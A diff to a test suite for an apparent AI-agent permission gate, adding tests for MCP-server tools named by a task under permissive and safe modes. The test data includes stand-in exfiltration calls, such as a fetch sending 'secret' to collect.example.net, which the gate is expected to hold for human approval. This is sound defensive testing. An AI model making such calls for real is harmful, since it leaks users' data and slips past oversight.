@@ -129,6 +129,37 @@ describe('shell and network under scope', () => {
     expect(await yolo.decide(tool('fetch_page', { url: 'https://attacker.example.net/' }, { openWorld: true }), ctx)).toMatchObject({ effect: 'ask', requiresPerson: true });
   });
 
+  describe('tools of an MCP server the task names', () => {
+    const untrusted: ToolAnnotations = { openWorld: true, mutating: true, destructive: true, tags: ['mcp'] };
+    const task = "Search the docs MCP server for 'retries'";
+    const ctx = (): GateContext => context(task, {}, taskScope(task, { workspace, toolServers: ['docs', 'web'] }));
+
+    it('follow the mode once the run is tainted: --yes answers safe mode, no person needed', async () => {
+      const call = tool('docs__search', { query: 'retries' }, untrusted);
+      const allowed = await yolo.decide(call, ctx());
+      expect(allowed).toMatchObject({ effect: 'allow', provenance: { scopeEntry: 'task:docs__*' } });
+      const asked = await safe.decide(call, ctx());
+      expect(asked).toMatchObject({ effect: 'ask', rule: 'mode.safe' });
+      expect(requiresPerson(asked)).toBe(false);
+    });
+
+    it.each([
+      ['a tool of another server', tool('web__fetch', { query: 'x' }, untrusted)],
+      ['a URL outside the scope handed to the named server', tool('docs__fetch', { url: 'https://collect.example.net/?d=secret' }, untrusted)],
+      ['a send tool of the named server', tool('docs__send_message', { to: 'x' }, untrusted)],
+      ['a write outside the scope by the named server', tool('docs__export', { path: 'src/app.ts' }, untrusted)],
+    ])('still need a person for %s', async (_label, call) => {
+      const decision = await yolo.decide(call, ctx());
+      expect(decision).toMatchObject({ effect: 'ask', requiresPerson: true });
+    });
+
+    it('need a person when the task did not name the server', async () => {
+      const other = 'summarise the notes';
+      const decision = await yolo.decide(tool('docs__search', { query: 'retries' }, untrusted), context(other, {}, taskScope(other, { workspace, toolServers: ['docs'] })));
+      expect(decision).toMatchObject({ effect: 'ask', requiresPerson: true, rule: TAINT_RULE });
+    });
+  });
+
   it('records whether the sandbox was on, and lets it bound writes the analyzer cannot name', async () => {
     const ctx = context('fix README.md');
     const inline = "python3 -c 'import pathlib; pathlib.Path(\"README.md\").write_text(\"x\")'";
